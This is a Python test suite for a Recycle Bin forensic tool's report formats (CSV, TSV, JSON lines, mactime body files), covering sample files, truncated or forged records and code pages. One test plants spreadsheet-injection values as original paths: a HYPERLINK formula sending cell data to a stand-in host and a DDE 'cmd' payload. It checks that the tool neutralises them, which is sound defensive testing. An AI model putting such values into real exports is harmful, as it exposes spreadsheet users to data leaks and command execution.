"""The UTF-8 report formats (--format=csv, tsv, jsonl, body) on the real
sample index files, each read back by the programs that consume it: Python's
csv module and sqlite3 for CSV, jq for JSON lines, The Sleuth Kit's mactime
for the body file."""

import calendar
import csv
import datetime
import io
import json
import os
import re
import shutil
import stat
import struct
import subprocess
import time
import unittest

from binsift_e2e import (BINSIFT, HEADER, SAMPLES, TreeTest, birth_filetime, filetime, index_v2,
                         run)
from test_samples import EXPECTED

FIELDS = ["source", "user_sid", "format", "size", "deleted", "original_path", "extension",
          "companion", "companion_size", "companion_modified", "companion_accessed",
          "companion_created", "warnings", "entry_name", "index_created", "index_modified",
          "companion_changed", "image", "volume", "entry", "offset", "user_name", "parent_source",
          "companion_md5", "companion_sha1", "companion_sha256", "zone_id", "host_url",
          "referrer_url"]
# What a run on a mounted tree leaves empty, whatever the record.
IMAGE_AND_LATER_FIELDS = FIELDS[17:]
NUMBER_FIELDS = ("size", "companion_size", "entry", "offset", "zone_id")
CSV_HEADER = (",".join(FIELDS) + "\r\n").encode()
TSV_HEADER = ("\t".join(FIELDS) + "\n").encode()

CJK_FILE = "rifiuti2/dir-win10-01/$IBBFODN"
# As the file holds it (its provenance lists the middle two the other way round).
CJK_PATH = "C:\\Temp\\\U00028CCA\U00028D99\u95aa\u90a8\u9c02"
SID = "S-1-5-21-2127521184-1604012920-1887927527-1001"
# The two Vista copies of 543 bytes, read one byte early: no size, and the
# deletion time and path rifiuti2 gives them.
ONE_BYTE_SHORT = {
    "rifiuti2/dir-sample1/$IYAR1YY.exe": ("2007-09-21", "07:54:23", "C:\\dd.exe"),
    "rifiuti2/dir-sample1/$IC6GEAW.exe": (
        "2007-09-21", "08:50:16", "C:\\Users\\student\\Downloads\\fau-1.3.0.2355(rc3)\\fau\\FAU.x86\\dd.exe"),
}


def need_tool(test, name):
    """Skips the test when `name` is not installed, except in CI, which
    installs every consumer and must never skip them."""
    if shutil.which(name):
        return
    if os.environ.get("CI"):
        test.fail("%s is not installed" % name)
    test.skipTest("%s is not installed" % name)


def iso(ft):
    """A FILETIME as the formats write it, or "" for none."""
    if ft == 0 or ft >> 63:
        return ""
    seconds, ticks = divmod(ft, 10000000)
    try:
        t = datetime.datetime(1601, 1, 1) + datetime.timedelta(seconds=seconds)
    except OverflowError:
        return ""
    return t.strftime("%Y-%m-%dT%H:%M:%S") + ".%07dZ" % ticks


def ft_of_ns(ns):
    return ns // 100 + 116444736000000000


def parse_csv(data):
    """The rows of CSV bytes, read strictly as UTF-8 by Python's csv module."""
    text = data.decode("utf-8")
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


def unescape_tsv(field):
    out, i = [], 0
    while i < len(field):
        c = field[i]
        if c == "\\":
            nxt = field[i + 1]
            out.append({"t": "\t", "r": "\r", "n": "\n", "\\": "\\"}[nxt])
            i += 2
        else:
            out.append(c)
            i += 1
    return "".join(out)


def parse_tsv(data):
    text = data.decode("utf-8")
    assert text.endswith("\n")
    return [[unescape_tsv(f) for f in line.split("\t")] for line in text[:-1].split("\n")]


def lone_to_fffd(text):
    return "".join("\ufffd" if 0xD800 <= ord(c) <= 0xDFFF else c for c in text)


def utf16_path(data):
    """The original path of an index file, decoded here on its own: UTF-16
    up to the terminator, pairs joined, a lone surrogate as U+FFFD."""
    offset = 24 if struct.unpack_from("<I", data)[0] == 1 else 28
    raw = data[offset:]
    raw = raw[:len(raw) // 2 * 2]
    for i in range(0, len(raw), 2):
        if raw[i:i + 2] == b"\0\0":
            raw = raw[:i]
            break
    return lone_to_fffd(raw.decode("utf-16-le", "surrogatepass"))


def is_index_name(name):
    return name[:2].upper() == "$I"


@unittest.skipUnless(os.path.isdir(SAMPLES), "the sample files are not beside this checkout")
class SampleFormats(TreeTest):
    """Every sample index file, in every format."""

    def setUp(self):
        super().setUp()
        self.root = self.path("samples")
        shutil.copytree(SAMPLES, self.root)
        # One bin as Windows lays it out: a user's folder named by the SID.
        sid_dir = self.path("samples", "bin", "$RECYCLE.BIN", SID)
        os.makedirs(sid_dir)
        shutil.copy(os.path.join(SAMPLES, CJK_FILE), sid_dir)
        # Companion times that the tests know (git keeps none).
        self.companion_times = {}
        for folder, _, names in os.walk(self.root):
            for i, name in enumerate(sorted(names)):
                if name.startswith("$R"):
                    p = os.path.join(folder, name)
                    atime_ns = (calendar.timegm((2016, 1, 2, 3, 4, 5)) + i) * 10**9 + 1234500
                    mtime_ns = calendar.timegm((2015, 4, 1, 0, 0, 0)) * 10**9 + 987654300
                    os.utime(p, ns=(atime_ns, mtime_ns))
                    self.companion_times[p] = (ft_of_ns(mtime_ns), ft_of_ns(atime_ns))
        self.index_files = []
        for folder, _, names in os.walk(self.root):
            self.index_files += [os.path.join(folder, n) for n in names if is_index_name(n)]
        self.assertEqual(len(self.index_files), len(EXPECTED) + 1)

    def run_format(self, fmt, *extra, paths=None):
        code, out, err = run(["-p"] + (paths or [self.root]) + ["-f", "$I*.*", "--format=" + fmt]
                             + list(extra))
        self.assertEqual(code, 0, err)
        return out

    def expected_fields(self, path):
        """The fields that do not depend on the run, from the provenance list."""
        relative = os.path.relpath(path, self.root).replace(os.sep, "/")
        if relative.startswith("bin/"):
            relative = CJK_FILE
        return relative, EXPECTED[relative]

    def check_record(self, rec):
        """One record (a dict of strings, as CSV gives it) against what is known
        of its index file."""
        source = rec["source"]
        self.assertIn(source, self.index_files)
        relative, (size, date, time, path) = self.expected_fields(source)
        with open(source, "rb") as f:
            data = f.read()
        version = struct.unpack_from("<Q", data)[0]
        self.assertEqual(rec["format"], {1: "v1", 2: "v2"}[version], relative)
        self.assertEqual(rec["user_sid"], SID if "/bin/" in source else "", relative)
        warnings = rec["warnings"].split(";") if rec["warnings"] else []
        # The index file's own times and name.
        st = os.stat(source)
        self.assertEqual(rec["entry_name"], os.path.basename(source), relative)
        self.assertEqual(rec["index_created"], iso(birth_filetime(source)), relative)
        self.assertEqual(rec["index_modified"], iso(ft_of_ns(st.st_mtime_ns)), relative)
        self.assertEqual([rec[f] for f in IMAGE_AND_LATER_FIELDS], [""] * len(IMAGE_AND_LATER_FIELDS),
                         relative)
        if relative in ONE_BYTE_SHORT:
            # Read as such copies are laid out: the size is not there.
            self.assertIsNone(date, relative)
            want_date, want_time, want_path = ONE_BYTE_SHORT[relative]
            self.assertEqual(rec["size"], "", relative)
            self.assertEqual(rec["deleted"][:19], want_date + "T" + want_time, relative)
            self.assertEqual(rec["original_path"], want_path, relative)
            self.assertEqual(rec["extension"], "exe", relative)
            self.assertEqual(warnings, ["one-byte-short"], relative)
        else:
            self.assertEqual(rec["size"], str(size), relative)
            self.assertEqual("size-out-of-range" in warnings, size < 0, relative)
            self.assertEqual(rec["deleted"][:19], date + "T" + time, relative)
            self.assertRegex(rec["deleted"], r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{7}Z$")
            deleted_ft = struct.unpack_from("<Q", data, 16)[0]
            self.assertEqual(rec["deleted"], iso(deleted_ft), relative)
            if isinstance(path, tuple):
                prefix, suffix, length = path
                self.assertTrue(rec["original_path"].startswith(prefix), relative)
                self.assertTrue(rec["original_path"].endswith(suffix), relative)
                self.assertEqual(len(rec["original_path"]), length, relative)
            else:
                want = utf16_path(data)
                if relative != CJK_FILE:
                    self.assertEqual(want, lone_to_fffd(path), relative)
                self.assertEqual(rec["original_path"], want, relative)
                last = want.rsplit("\\", 1)[-1]
                self.assertEqual(rec["extension"], last.rsplit(".", 1)[1] if "." in last else "",
                                 relative)
                self.assertEqual("lone-surrogate" in warnings, "\ufffd" in want, relative)
            self.assertEqual("time-out-of-range" in warnings, date < "1995", relative)
        companion = os.path.join(os.path.dirname(source), "$R" + os.path.basename(source)[2:])
        if os.path.lexists(companion):
            st = os.lstat(companion)
            self.assertEqual(rec["companion"], "file", relative)
            self.assertEqual(rec["companion_size"], str(st.st_size), relative)
            mtime, atime = self.companion_times[companion]
            self.assertEqual(rec["companion_modified"], iso(mtime), relative)
            self.assertEqual(rec["companion_accessed"], iso(atime), relative)
            self.assertEqual(rec["companion_changed"], iso(ft_of_ns(st.st_ctime_ns)), relative)
            self.assertEqual("size-mismatch" in warnings, st.st_size != size, relative)
        else:
            self.assertEqual([rec[f] for f in FIELDS[7:12] + ["companion_changed"]],
                             ["missing", "", "", "", "", ""], relative)
        return relative

    def test_csv_read_by_pythons_csv_module(self):
        out = self.run_format("csv")
        self.assertTrue(out.startswith(CSV_HEADER))
        self.assertTrue(out.endswith(b"\r\n"))
        self.assertNotIn(b"\n", out.replace(b"\r\n", b""))  # no bare line ends in these paths
        rows = parse_csv(out)
        self.assertEqual(rows[0], FIELDS)
        self.assertEqual(len(rows), len(self.index_files) + 1)
        seen = set()
        for row in rows[1:]:
            self.assertEqual(len(row), len(FIELDS))
            seen.add(self.check_record(dict(zip(FIELDS, row))))
        self.assertEqual(len(seen), len(EXPECTED))

    def test_csv_imported_by_sqlite3(self):
        need_tool(self, "sqlite3")
        out = self.run_format("csv")
        csv_path = self.path("bin.csv")
        with open(csv_path, "wb") as f:
            f.write(out)
        query = ("SELECT count(*), (SELECT sum(size) FROM r WHERE size <> ''), "
                 "(SELECT original_path FROM r WHERE source LIKE '%/bin/%'), "
                 "(SELECT count(*) FROM r WHERE warnings LIKE '%size-mismatch%') FROM r;")
        p = subprocess.run(["sqlite3", "-batch", "-bail", "-separator", "\x1f", ":memory:",
                            ".import --csv %s r" % csv_path, query],
                           capture_output=True, timeout=60)
        self.assertEqual(p.returncode, 0, p.stderr)
        self.assertEqual(p.stderr, b"")
        count, total, cjk, mismatches = p.stdout.decode("utf-8").rstrip("\n").split("\x1f")
        rows = parse_csv(out)[1:]
        self.assertEqual(int(count), len(rows))
        self.assertEqual(int(total), sum(int(r[3]) for r in rows if r[3]))
        self.assertEqual(cjk, CJK_PATH)
        self.assertEqual(int(mismatches), sum("size-mismatch" in r[12] for r in rows))
        self.assertGreaterEqual(int(mismatches), 1)  # $RUVFB0M.rtf lost three CRs

    def test_tsv_holds_the_same_records(self):
        csv_rows = parse_csv(self.run_format("csv"))
        out = self.run_format("tsv")
        self.assertTrue(out.startswith(TSV_HEADER))
        self.assertNotIn(b"\r", out)
        tsv_rows = parse_tsv(out)
        self.assertEqual(tsv_rows, csv_rows)

    def test_jsonl_read_by_jq(self):
        need_tool(self, "jq")
        out = self.run_format("jsonl")
        lines = out.split(b"\n")
        self.assertEqual(lines[-1], b"")
        lines = lines[:-1]
        self.assertEqual(len(lines), len(self.index_files))
        # jq reads every line as one JSON value: the keys in order, the types.
        program = ('[(keys_unsorted | join(",")), (.size | type), (.companion_size | type), '
                   '(.warnings | type), ([.warnings[] | type] | unique | join(","))] | @tsv')
        p = subprocess.run(["jq", "-r", program], input=out, capture_output=True, timeout=60)
        self.assertEqual(p.returncode, 0, p.stderr)
        results = p.stdout.decode("utf-8").splitlines()
        self.assertEqual(len(results), len(lines))
        for line, result in zip(lines, results):
            keys, size_type, csize_type, warnings_type, element_types = (result.split("\t") + [""])[:5]
            self.assertEqual(keys, ",".join(FIELDS))
            self.assertIn(size_type, ("number", "null"))
            self.assertIn(csize_type, ("number", "null"))
            self.assertEqual(warnings_type, "array")
            self.assertIn(element_types, ("", "string"))
        # Each line alone is valid JSON too, and holds what the CSV holds.
        csv_rows = parse_csv(self.run_format("csv"))[1:]
        for line, row in zip(lines, csv_rows):
            p = subprocess.run(["jq", "-e", "-c", "."], input=line, capture_output=True, timeout=60)
            self.assertEqual(p.returncode, 0, (line, p.stderr))
            obj = json.loads(line.decode("utf-8"))
            self.assertEqual(list(obj), FIELDS)
            for name, value in zip(FIELDS, row):
                got = obj[name]
                if name == "warnings":
                    self.assertEqual(";".join(got), value)
                elif value == "":
                    self.assertIsNone(got, name)
                elif name in NUMBER_FIELDS:
                    self.assertEqual(got, int(value))
                else:
                    self.assertEqual(got, value)

    def test_body_file_read_by_mactime(self):
        need_tool(self, "mactime")
        out = self.run_format("body")
        body = self.path("bin.body")
        with open(body, "wb") as f:
            f.write(out)
        p = subprocess.run(["mactime", "-b", body, "-d", "-z", "UTC"], capture_output=True,
                           timeout=120, env=dict(os.environ, LC_ALL="C.UTF-8"))
        self.assertEqual(p.returncode, 0, p.stderr)
        timeline = list(csv.reader(io.StringIO(p.stdout.decode("utf-8"), newline="")))
        self.assertEqual(timeline[0][:3], ["Date", "Size", "Type"])
        entries = {}
        date = None
        for row in timeline[1:]:
            date = row[0] or date
            entries.setdefault(row[7], []).append((date, row[1], row[2]))
        csv_rows = [dict(zip(FIELDS, r)) for r in parse_csv(self.run_format("csv"))[1:]]
        found = 0
        for rec in csv_rows:
            name = "%s (deleted; %s)" % (rec["original_path"], rec["source"])
            if not rec["deleted"]:
                self.assertNotIn(name, entries)  # no time, no place in a timeline
                continue
            y, mo, d = (int(x) for x in rec["deleted"][:10].split("-"))
            hh, mm, ss = rec["deleted"][11:19].split(":")
            when = calendar.timegm((y, mo, d, 0, 0, 0))
            want = time.strftime("%a %b %d %Y ", time.gmtime(when)) + "%s:%s:%s" % (hh, mm, ss)
            self.assertEqual(entries.get(name), [(want, rec["size"] or "0", "macb")], name)
            found += 1
            companion = "%s (recycled content; %s)" % (
                rec["original_path"],
                os.path.join(os.path.dirname(rec["source"]), "$R" + os.path.basename(rec["source"])[2:]))
            if rec["companion"] == "file":
                types = sorted(t for _, _, t in entries[companion])
                self.assertIn("m...", types)
                self.assertIn(".a..", types)
                self.assertTrue(all(s == rec["companion_size"] for _, s, _ in entries[companion]))
            else:
                self.assertNotIn(companion, entries)
        self.assertEqual(found, len(EXPECTED) + 1)

    def test_cjk_name_in_every_format_and_question_marks_in_seed(self):
        folder = os.path.join(self.root, "bin", "$RECYCLE.BIN", SID)
        code, seed, err = run(["-p", folder, "-f", "$I*.*"])
        self.assertEqual(code, 0, err)
        self.assertIn(b"|C:\\Temp\\?????|", seed)
        utf8 = CJK_PATH.encode("utf-8")
        self.assertIn(b"," + utf8 + b",", self.run_format("csv", paths=[folder]))
        self.assertIn(b"\t" + utf8.replace(b"\\", b"\\\\") + b"\t",
                      self.run_format("tsv", paths=[folder]))
        self.assertIn(b'"original_path":"' + utf8.replace(b"\\", b"\\\\") + b'",',
                      self.run_format("jsonl", paths=[folder]))
        self.assertIn(b"0|" + utf8 + b" (deleted; ", self.run_format("body", paths=[folder]))
        for fmt in ("csv", "tsv", "jsonl", "body"):
            self.assertNotIn(b"?????", self.run_format(fmt, paths=[folder]))

    def test_seed_is_unchanged_with_format_seed(self):
        for folder, dirs, names in os.walk(self.root):
            if not any(is_index_name(n) for n in names):
                continue
            plain = run(["-p", folder, "-f", "$I*.*", "-r"])
            self.assertEqual(plain[0], 0)
            self.assertTrue(plain[1].startswith(HEADER))
            for word in ("--format=seed", "--FORMAT=SEED"):
                again = run(["-p", folder, "-f", "$I*.*", "-r", word])
                self.assertEqual(again[:2], plain[:2], (folder, word))
        # Every file of every sample, companions and INFO2 files included
        # (-R: reading a companion as an index file must not change the
        # access time the next run shows for it).
        plain = run(["-p", self.root, "-f", "*.*", "-R"])
        self.assertEqual(plain[0], 0)
        self.assertGreater(plain[1].count(b"\n"), len(self.index_files) + 10)
        self.assertEqual(run(["-p", self.root, "-f", "*.*", "-R", "--format=seed"])[:2], plain[:2])

    def test_no_header_with_B_and_Q(self):
        for fmt, header in (("csv", CSV_HEADER), ("tsv", TSV_HEADER)):
            full = self.run_format(fmt)
            self.assertTrue(full.startswith(header))
            for flag in ("-B", "-Q"):
                self.assertEqual(self.run_format(fmt, flag), full[len(header):], (fmt, flag))
        for fmt in ("jsonl", "body"):
            self.assertEqual(self.run_format(fmt, "-B"), self.run_format(fmt))

    def test_output_file_gets_the_same_bytes(self):
        for fmt in ("csv", "tsv", "jsonl", "body", "seed"):
            target = self.path("out." + fmt)
            out = self.run_format(fmt, "-o", target)
            with open(target, "rb") as f:
                self.assertEqual(f.read(), out, fmt)
            self.assertGreater(len(out), 1000)

    @unittest.skipIf(os.environ.get("BINSIFT_SANITIZED"), "the sanitizers do not run under strace")
    def test_one_write_per_record(self):
        need_tool(self, "strace")
        folder = os.path.join(self.root, "rifiuti2", "dir-win10-01")
        for fmt, header_writes in (("csv", 1), ("jsonl", 0)):
            trace = self.path("trace." + fmt)
            p = subprocess.run(["strace", "-f", "-e", "trace=write", "-e", "signal=none", "-o", trace,
                                BINSIFT, "-p", folder, "-f", "$I*.*",
                                "--format=" + fmt],
                               stdin=subprocess.DEVNULL, capture_output=True, timeout=60,
                               env=dict(os.environ, LANG="C"))
            self.assertEqual(p.returncode, 0, p.stderr)
            with open(trace) as f:
                writes = [line for line in f if " write(1," in line or line.startswith("write(1,")]
            self.assertEqual(len(writes), header_writes + 7, fmt)


class DamagedAndForged(TreeTest):
    """Records that must not look more certain than they are, and names that
    must not break a line apart."""

    def records(self, fmt, root, *extra):
        code, out, err = run(["-p", root, "-f", "$I*.*", "--format=" + fmt] + list(extra))
        self.assertEqual(code, 0, err)
        return out

    def csv_records(self, root):
        rows = parse_csv(self.records("csv", root))
        self.assertEqual(rows[0], FIELDS)
        return {os.path.basename(r[0]): dict(zip(FIELDS, r)) for r in rows[1:]}

    def test_cannot_open_is_a_record(self):
        os.mkfifo(self.path("$IFIFO.txt"))
        os.symlink(self.path("nowhere"), self.path("$IDANGLE.txt"))
        os.mkdir(self.path("$RFIFO.txt"))
        recs = self.csv_records(self.tmp)
        fifo = recs["$IFIFO.txt"]
        self.assertEqual(fifo["format"], "unknown")
        self.assertEqual(fifo["warnings"], "cannot-open")
        self.assertEqual([fifo[f] for f in FIELDS[3:7]], ["", "", "", ""])
        self.assertEqual(fifo["companion"], "directory")
        self.assertEqual(fifo["companion_size"], "")
        self.assertEqual(fifo["companion_modified"],
                         iso(ft_of_ns(os.lstat(self.path("$RFIFO.txt")).st_mtime_ns)))
        self.assertEqual(recs["$IDANGLE.txt"]["warnings"], "cannot-open")
        self.assertEqual(recs["$IDANGLE.txt"]["companion"], "missing")
        for fmt in ("csv", "tsv", "jsonl", "body"):
            self.assertNotIn(b"Can't open", self.records(fmt, self.tmp))
        body = self.records("body", self.tmp).decode()
        self.assertIn("0| (deleted; %s/$IFIFO.txt)|0|0|0|0|0|0|0|0|0\n" % self.tmp, body)

    def test_short_and_truncated_files(self):
        good = index_v2(1234, filetime(2020, 2, 29, 12, 0, 0), "C:\\x\\report.docx")
        self.write("$ITINY", b"\x02\x00")
        self.write("$IHALF", good[:20])
        self.write("$ICUT.docx", good[:-6])  # the name loses its terminator and two letters
        self.write("$IODD", struct.pack("<Q", 7) + good[8:])
        self.write("$IEMPTY", b"")
        recs = self.csv_records(self.tmp)
        self.assertEqual((recs["$ITINY"]["format"], recs["$ITINY"]["warnings"]),
                         ("unknown", "truncated"))
        self.assertEqual((recs["$IEMPTY"]["format"], recs["$IEMPTY"]["warnings"]),
                         ("unknown", "truncated"))
        self.assertEqual(recs["$IHALF"]["format"], "v2")
        self.assertEqual(recs["$IHALF"]["deleted"], "")
        self.assertIn("truncated", recs["$IHALF"]["warnings"].split(";"))
        cut = recs["$ICUT.docx"]
        self.assertEqual((cut["size"], cut["deleted"]), ("1234", "2020-02-29T12:00:00.0000000Z"))
        self.assertEqual(cut["original_path"], "C:\\x\\report.do")
        self.assertEqual(cut["extension"], "do")
        self.assertIn("truncated", cut["warnings"].split(";"))
        self.assertEqual(recs["$IODD"]["format"], "unknown")
        self.assertIn("unknown-version", recs["$IODD"]["warnings"].split(";"))

    def test_a_version_1_file_one_byte_short_is_truncated(self):
        whole = struct.pack("<QqQ", 1, 10, filetime(2010, 1, 1)) + "C:\\a.txt".encode(
            "utf-16-le").ljust(520, b"\0")
        self.assertEqual(len(whole), 544)
        self.write("$ISHORT1.txt", whole[:543])
        self.write("$IWHOLE1.txt", whole)
        recs = self.csv_records(self.tmp)
        self.assertEqual(recs["$IWHOLE1.txt"]["warnings"], "")
        self.assertEqual(recs["$ISHORT1.txt"]["original_path"], "C:\\a.txt")
        self.assertIn("truncated", recs["$ISHORT1.txt"]["warnings"].split(";"))

    def test_a_negative_size_is_shown_and_doubted(self):
        self.write("$INEG.txt", index_v2(-1, filetime(2020, 1, 1), "C:\\n.txt"))
        self.write("$IPOS.txt", index_v2(2**63 - 1, filetime(2020, 1, 1), "C:\\p.txt"))
        recs = self.csv_records(self.tmp)
        self.assertEqual((recs["$INEG.txt"]["size"], recs["$INEG.txt"]["warnings"]),
                         ("-1", "size-out-of-range"))
        self.assertEqual((recs["$IPOS.txt"]["size"], recs["$IPOS.txt"]["warnings"]),
                         (str(2**63 - 1), ""))
        lines = [json.loads(l) for l in self.records("jsonl", self.tmp).decode().splitlines()]
        self.assertEqual(sorted((r["size"], r["warnings"]) for r in lines),
                         [(-1, ["size-out-of-range"]), (2**63 - 1, [])])

    def test_names_that_would_break_a_line(self):
        hostile_dir = "a,b\"c\td\ne\\f|g"
        os.mkdir(self.path(hostile_dir))
        name = "$I\xe9\x01.txt"  # not UTF-8, and a control character
        path = os.path.join(os.fsencode(self.path(hostile_dir)), os.fsencode("$I") + b"\xe9\x01.txt")
        with open(path, "wb") as f:
            f.write(index_v2(5, filetime(2016, 7, 8, 9, 10, 11),
                             "C:\\q\"uote\\com,ma\\tab\there\\new\nline\\pipe|\\back\\sl.a\\b.c"))
        with open(os.path.join(os.fsencode(self.path(hostile_dir)), b"$R\xe9\x01.txt"), "wb") as f:
            f.write(b"12345")
        want_path = "C:\\q\"uote\\com,ma\\tab\there\\new\nline\\pipe|\\back\\sl.a\\b.c"
        want_source = self.path(hostile_dir) + "/$I\ufffd\x01.txt"

        rows = parse_csv(self.records("csv", self.tmp))
        self.assertEqual(len(rows), 2)
        rec = dict(zip(FIELDS, rows[1]))
        self.assertEqual((rec["source"], rec["original_path"], rec["extension"]),
                         (want_source, want_path, "c"))
        self.assertEqual(parse_tsv(self.records("tsv", self.tmp))[1], rows[1])

        need_tool(self, "jq")
        out = self.records("jsonl", self.tmp)
        self.assertEqual(out.count(b"\n"), 1)
        p = subprocess.run(["jq", "-r", ".source, .original_path, .companion_size"], input=out,
                           capture_output=True, timeout=60)
        self.assertEqual(p.returncode, 0, p.stderr)
        self.assertEqual(p.stdout.decode("utf-8"), "%s\n%s\n5\n" % (want_source, want_path))

        body = self.records("body", self.tmp).decode("utf-8")
        lines = body.split("\n")
        self.assertEqual(len(lines), 3)  # deletion, content, and the end
        self.assertTrue(all(line.count("|") == 10 for line in lines[:2]), lines)
        self.assertTrue(lines[0].startswith(
            "0|C:\\q\"uote\\com,ma\\tab?here\\new?line\\pipe?\\back\\sl.a\\b.c (deleted; "
            + self.tmp + "/a,b\"c?d?e\\f?g/$I\ufffd?.txt)|0|0|0|0|5|"), lines[0])

    def test_spreadsheets_never_see_a_formula(self):
        paths = {"$IHYPER": "=HYPERLINK(\"http://x.example/?\"&A1,\"open\")",
                 "$IPLUS": "+1+cmd|' /C calc'!A0",
                 "$IMINUS": "-2+3",
                 "$IAT.txt": "C:\\a.@SUM(1)",
                 "$ITAB": "\tC:\\tab",
                 "$ICR": "\rC:\\cr",
                 "$ISEP": "C:\\line\u2028sep\u2029para"}
        for name, original in paths.items():
            self.write(name, index_v2(-5, filetime(2021, 1, 2), original))
        self.write("$RAT.txt", b"abc")
        defused = {name: ("'" + p if p[0] in "=+-@\t\r" else p) for name, p in paths.items()}

        for fmt, read in (("csv", parse_csv), ("tsv", parse_tsv)):
            with self.subTest(fmt=fmt):
                rows = read(self.records(fmt, self.tmp))
                self.assertEqual(rows[0], FIELDS)
                recs = {os.path.basename(r[0]): dict(zip(FIELDS, r)) for r in rows[1:]}
                self.assertEqual({n: r["original_path"] for n, r in recs.items()}, defused)
                self.assertEqual(recs["$IAT.txt"]["extension"], "'@SUM(1)")
                # Numbers keep their sign.
                self.assertEqual({r["size"] for r in recs.values()}, {"-5"})
                self.assertEqual(recs["$IAT.txt"]["companion_size"], "3")

        need_tool(self, "jq")
        out = self.records("jsonl", self.tmp)
        self.assertNotIn("\u2028".encode(), out)
        self.assertNotIn("\u2029".encode(), out)
        self.assertIn(b"line\\u2028sep\\u2029para", out)
        p = subprocess.run(["jq", "-r", "[(.source | split(\"/\") | last), .original_path, .size] | @json"],
                           input=out, capture_output=True, timeout=60)
        self.assertEqual(p.returncode, 0, p.stderr)
        got = {r[0]: (r[1], r[2]) for r in map(json.loads, p.stdout.decode().split("\n")[:-1])}
        self.assertEqual(got, {n: (original, -5) for n, original in paths.items()})

    def test_user_folder_and_companion_times(self):
        folder = self.path("$RECYCLE.BIN", "s-1-5-18")
        os.makedirs(folder)
        deleted = filetime(2023, 3, 4, 5, 6, 7) + 1234567
        self.write("$RECYCLE.BIN/s-1-5-18/$IABC.txt", index_v2(3, deleted, "C:\\a.txt"))
        self.write("$RECYCLE.BIN/s-1-5-18/$RABC.txt", b"abc")
        os.utime(os.path.join(folder, "$RABC.txt"), ns=(1600000000123456789, 1500000000987654321))
        self.write("$RECYCLE.BIN/S-1-5-21-x/$IDEF", index_v2(3, deleted, "C:\\b"))
        rows = {r[0].rsplit("/", 1)[1]: dict(zip(FIELDS, r))
                for r in parse_csv(self.records("csv", self.tmp))[1:]}
        abc = rows["$IABC.txt"]
        self.assertEqual(abc["user_sid"], "s-1-5-18")
        self.assertEqual(abc["deleted"], "2023-03-04T05:06:07.1234567Z")
        self.assertEqual((abc["companion"], abc["companion_size"]), ("file", "3"))
        self.assertEqual(abc["companion_modified"], "2017-07-14T02:40:00.9876543Z")
        self.assertEqual(abc["companion_accessed"], "2020-09-13T12:26:40.1234567Z")
        self.assertEqual(abc["warnings"], "")
        self.assertEqual(rows["$IDEF"]["user_sid"], "")  # "x" is not a group of digits

        need_tool(self, "mactime")
        body = self.path("t.body")
        with open(body, "wb") as f:
            f.write(self.records("body", self.tmp))
        p = subprocess.run(["mactime", "-b", body, "-d", "-z", "UTC"], capture_output=True,
                           timeout=60)
        self.assertEqual(p.returncode, 0, p.stderr)
        text = p.stdout.decode("utf-8")
        self.assertIn('Sat Mar 04 2023 05:06:07,3,macb,0,0,0,0,"C:\\a.txt (deleted; %s/$IABC.txt)"'
                      % folder, text)
        self.assertIn('Fri Jul 14 2017 02:40:00,3,m...,0,0,0,0,"C:\\a.txt (recycled content; '
                      '%s/$RABC.txt)"' % folder, text)
        self.assertIn('Sun Sep 13 2020 12:26:40,3,.a..,0,0,0,0,"C:\\a.txt (recycled content; '
                      '%s/$RABC.txt)"' % folder, text)


class FormatWord(TreeTest):
    def test_unknown_or_missing_format_is_an_illegal_option(self):
        for word in ("format=xml", "format=Csv", "format", "format=", "format=csv,tsv",
                     "FORMAT=Body", "format= csv"):
            code, out, err = run(["-p", self.tmp, "--" + word])
            self.assertEqual((code, out), (5, b"\nIllegal option: " + word.encode()), word)

    def test_format_is_a_whole_word(self):
        self.write("$IA.txt", index_v2(1, filetime(2020, 1, 1), "C:\\A.txt"))
        seed = run(["-p", self.tmp])
        # A slip of the word is refused; a word further off has no effect.
        for word in ("--formats=csv", "--form=csv", "--Format=csv"):
            code, out, err = run(["-p", self.tmp, word])
            self.assertEqual((code, out, err),
                             (5, b"\nIllegal option: " + word[2:].encode(), b"\nDid you mean --format?\n"),
                             word)
        self.assertEqual(run(["-p", self.tmp, "--formatcsv"])[:2], seed[:2])
        for word in ("--format=csv", "--FORMAT=CSV", "--format=CSV", "--FORMAT=csv"):
            code, out, _ = run(["-p", self.tmp, word])
            self.assertEqual(code, 0, word)
            self.assertTrue(out.startswith(CSV_HEADER), word)

    def test_last_format_word_wins(self):
        self.write("$IA.txt", index_v2(1, filetime(2020, 1, 1), "C:\\A.txt"))
        code, out, _ = run(["-p", self.tmp, "--format=csv", "--format=tsv"])
        self.assertEqual(code, 0)
        self.assertTrue(out.startswith(TSV_HEADER))

    def test_help_more(self):
        for word in ("--help-more", "--HELP-MORE"):
            code, out, err = run([word])
            self.assertEqual((code, out), (5, b""), word)
            for text in (b"--format=NAME", b"csv", b"tsv", b"jsonl", b"body", b"seed",
                         b"--codepage=NAME", b"--image=FILE", b"--carve", b"warnings",
                         b"cannot-open"):
                self.assertIn(text, err, (word, text))
            self.assertNotIn(b"This program: binsift", err)
        # Not a prefix (a slip of it, refused), and no value.
        code, out, err = run(["-p", self.tmp, "--help-mores"])
        self.assertEqual((code, out, err), (5, b"\nIllegal option: help-mores",
                                            b"\nDid you mean --help-more?\n"))
        code, out, err = run(["--help-more=yes"])
        self.assertEqual((code, out), (5, b"\nIllegal option: help-more=yes"))
        self.assertNotIn(b"--format=NAME", err)


@unittest.skipUnless(os.path.isdir(SAMPLES), "the sample files are not beside this checkout")
class Codepage(TreeTest):
    """A Japanese Windows 95 INFO file: ANSI paths in code page 932."""

    def setUp(self):
        super().setUp()
        os.makedirs(self.path("RECYCLED"))
        shutil.copy(os.path.join(SAMPLES, "info2", "rifiuti2", "INFO-95-ja-1"),
                    self.path("RECYCLED", "INFO"))

    def records(self, *extra):
        code, out, err = run(["-p", self.tmp, "-f", "INFO", "--format=jsonl"] + list(extra))
        self.assertEqual(code, 0, err)
        return [json.loads(line) for line in out.decode("utf-8").splitlines()]

    def test_paths_decoded_from_the_named_code_page(self):
        japanese = self.records("--codepage=CP932")
        self.assertEqual(len(japanese), 11)  # as its provenance lists
        third = [r for r in japanese if r["deleted"].startswith("2015-05-11T07:19:25")]
        self.assertEqual(len(third), 1)
        self.assertEqual(third[0]["original_path"],
                         "D:\\WINDOWS\\\uff83\uff9e\uff7d\uff78\uff84\uff6f\uff8c\uff9f\\"
                         "\u65b0\u898f\uff83\uff77\uff7d\uff84\u6587\u66f8.txt")
        self.assertEqual((third[0]["format"], third[0]["size"], third[0]["extension"]),
                         ("info2", 32768, "txt"))
        # Without the word: the Western code page, so other characters.
        western = self.records()
